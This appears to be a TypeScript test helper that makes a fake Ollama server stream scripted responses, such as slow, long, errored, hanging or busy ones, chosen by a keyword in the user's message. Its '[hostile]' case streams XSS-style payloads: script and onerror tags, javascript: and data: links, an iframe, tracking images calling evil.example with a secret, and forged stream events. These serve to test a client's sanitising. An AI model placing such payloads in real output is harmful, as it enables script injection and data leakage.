import type { RecordedRequest } from "./fake-ollama";
import type { Responder } from "./fake-responder";

/** What the fake does when the last user message holds the word, for browsers and people who script it by typing. */
const BEHAVIOURS: Record<string, (responder: Responder, request: RecordedRequest) => Promise<void>> = {
  /** A word every 100 ms, sixty of them. */
  "[slow]": async (responder) => {
    for (const word of words(60)) {
      await responder.text(word);
      await responder.wait(100);
    }
    await responder.done({ eval_count: 60, eval_duration: 6_000_000_000 });
  },
  /** 2,000 words of Markdown with headings, lists, tables and code, 5 ms apart. */
  "[long]": async (responder) => {
    let chunks = 0;
    for (const piece of pieces(longMarkdown(2000))) {
      chunks += 1;
      await responder.text(piece);
      await responder.wait(5);
    }
    await responder.done({ eval_count: chunks, eval_duration: chunks * 5_000_000 });
  },
  /** Thinks for two seconds, then answers. */
  "[think]": async (responder) => {
    for (const word of pieces("The person asks something. I should weigh it, then answer it plainly.")) {
      await responder.thinking(word);
      await responder.wait(150);
    }
    await typed(responder, "Having thought about it: **yes**.");
    await responder.done();
  },
  "[error]": async (responder) => {
    await typed(responder, "This answer begins well and then");
    await responder.line({ error: "an error was encountered while running the model: unexpected EOF" });
  },
  "[die]": async (responder) => {
    await typed(responder, "This answer begins well and then");
    await responder.die();
  },
  /** Sends nothing, not even headers, until the client leaves. */
  "[hang]": (responder) => responder.gate(new Promise(() => {})),
  /** Sends some words, then nothing until the client leaves. */
  "[stall]": async (responder) => {
    await typed(responder, "Some words, and then silence");
    await responder.gate(new Promise(() => {}));
  },
  "[busy]": (responder) =>
    responder.status(503, { error: "server busy, please try again.  maximum pending requests exceeded" }),
  "[404]": (responder, request) => responder.status(404, { error: `model '${modelOf(request)}' not found` }),
  "[html]": (responder) =>
    responder.status(200, "<html><body>Bad gateway</body></html>", { "content-type": "text/html" }),
  "[hostile]": async (responder) => {
    await typed(responder, HOSTILE);
    await responder.done();
  },
};

/** Answers as the last user message asks: the first behaviour whose word it holds, else a short friendly answer. */
export async function behaveAsAsked(request: RecordedRequest, responder: Responder): Promise<void> {
  const asked = lastUserMessage(request.body);
  const behaviour = Object.entries(BEHAVIOURS).find(([word]) => asked.includes(word))?.[1];
  if (behaviour) return behaviour(responder, request);
  await typed(
    responder,
    `Hello! You said: “${asked.slice(0, 200)}”. Here is a short answer, in **good** spirits.`,
  );
  await responder.done();
}

const HOSTILE = `<img src=x onerror="window.pwned = true"> <script>window.pwned = true</script>

![tracker](https://evil.example/pixel.png?secret=1) ![relative](//evil.example/pixel.png)

[click me](javascript:window.pwned=true) [data](data:text/html,<script>window.pwned=true</script>) [safe](https://example.org/page)

<iframe src="https://evil.example/"></iframe>

data: {"done":true}

event: error
data: forged

\`\`\`html
<b>code stays code</b>
\`\`\`
`;

const SECTION = `## Part %n

A paragraph of ordinary words that wraps over more than one line, with *emphasis*, **weight**, \`code\` and a [link](https://example.org/%n).

- first point of part %n
- second point, with \`inline\` code
  1. nested and numbered

| name | value | note |
|------|------:|------|
| alpha | %n | first |
| beta | 2 | second |

\`\`\`ts
export function part%n(input: string): number {
  return input.length * %n;
}
\`\`\`

> A quotation that closes part %n.

`;

/** At least this many words of varied Markdown. */
function longMarkdown(wordCount: number): string {
  let text = "# A long answer\n\n";
  for (let part = 1; text.split(/\s+/).length < wordCount; part += 1)
    text += SECTION.replaceAll("%n", `${part}`);
  return text;
}

function* words(count: number): Generator<string> {
  for (let index = 1; index <= count; index += 1) yield index === 1 ? "Word 1" : `, word ${index}`;
}

/** The text as a model would send it: a word with the whitespace before it at a time. */
function pieces(text: string): readonly string[] {
  return text.match(/\s*\S+|\s+$/g) ?? [];
}

async function typed(responder: Responder, text: string): Promise<void> {
  for (const piece of pieces(text)) {
    await responder.text(piece);
    await responder.wait(20);
  }
}

function modelOf(request: RecordedRequest): string {
  const { body } = request;
  return typeof body === "object" && body !== null && "model" in body ? String(body.model) : "";
}

function lastUserMessage(body: unknown): string {
  if (typeof body !== "object" || body === null || !("messages" in body)) return "";
  const messages: readonly unknown[] = Array.isArray(body.messages) ? body.messages : [];
  const last = messages.filter(isUserMessage).at(-1);
  return last?.content ?? "";
}

function isUserMessage(message: unknown): message is { readonly content: string } {
  return (
    typeof message === "object" &&
    message !== null &&
    "role" in message &&
    message.role === "user" &&
    "content" in message &&
    typeof message.content === "string"
  );
}
